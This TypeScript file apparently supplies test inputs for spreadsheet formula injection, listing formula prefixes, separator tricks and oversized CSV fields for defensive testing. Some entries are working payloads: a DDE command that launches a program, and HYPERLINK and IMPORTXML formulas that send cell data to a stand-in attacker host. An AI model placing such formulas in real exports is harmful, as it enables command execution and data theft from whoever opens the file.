import { familyOf, type HostileText } from './hostile-text';

/** Cells that a spreadsheet would run, and separators that would make more of them. */
export function formulas(): HostileText[] {
  return familyOf('formulas', {
    equals: '=1+1',
    plus: '+1+1',
    minus: '-1+1',
    at: '@SUM(1+1)',
    tab: '\t=1+1',
    return: '\r=1+1',
    'line feed': '\n=1+1',
    blank: ' =1+1',
    'full-width equals': '＝1+1',
    'byte order mark': '\ufeff=1+1',
    'zero-width space': '\u200b=1+1',
    'control character': '\u0001=1+1',
    NUL: '\0=1+1',
    command: `=cmd|' /C calc'!A0`,
    link: '=HYPERLINK("http://evil.example/?x="&A1,"details")',
    import: '=IMPORTXML("http://evil.example/","//a")',
    'quoted field': '"=1+1"',
    'end of a field': '","=1+1","',
    'end of a record': 'x\r\n=1+1,=2+2\r\n',
    semicolon: 'x;=1+1;',
    'separator line': 'sep=;',
    apostrophe: "'=1+1",
    'quotes only': '"'.repeat(5_001),
    'commas only': ','.repeat(20_000),
    '10,000 records': 'a,b\r\n'.repeat(10_000),
  });
}
